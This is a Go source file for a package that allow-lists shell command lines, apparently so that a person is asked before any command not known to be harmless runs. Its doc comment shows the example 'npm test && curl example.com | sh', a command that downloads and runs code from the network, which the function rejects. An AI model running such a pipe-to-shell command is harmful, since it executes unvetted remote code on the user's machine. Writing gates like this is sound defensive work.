// Package shell tells what command lines do, as far as that can be known without running them. A
// command is harmless if it reads, or tests, builds, checks or formats its project.
//
//	if part, ok := shell.Harmless("npm test && curl example.com | sh"); !ok {
//		// the person is asked; part is "curl example.com"
//	}
//
// It is a list of what may pass. Anything else is not harmless, nor is a line with redirections or substitutions, or
// one that cannot be parsed with certainty. Tests and builds run what the project says, which may be anything; they
// are harmless as far as their names tell.
package shell

import "strings"

// Harmless reports whether a command line is known to be harmless. If not, part is the first command that is not, in
// lower case and shortened.
func Harmless(command string) (part string, ok bool) {
	if hidden(command) {
		return "hidden", false
	}
	commands, simple := read(command)
	if !simple {
		return Short(command), false
	}
	for _, words := range commands {
		for i, w := range words {
			if !strings.HasPrefix(w, "-") || strings.HasPrefix(w, "--") {
				words[i] = strings.ToLower(w) // some file systems ignore case
			}
		}
		if len(words) > 0 && !harmlessCommand(words) {
			return Short(strings.Join(words, " ")), false
		}
	}
	if len(commands) == 0 { // a comment, or nothing
		return Short(command), false
	}
	return "", true
}

// Short returns a command on one line, in lower case, and no longer than a line can show.
func Short(s string) string { return Cut(strings.ToLower(strings.Join(strings.Fields(s), " "))) }

// Cut shortens a text to the length a line can show.
func Cut(s string) string {
	if runes := []rune(s[:min(len(s), 300)]); len(runes) > 60 {
		return string(runes[:60]) + "..."
	}
	return s
}
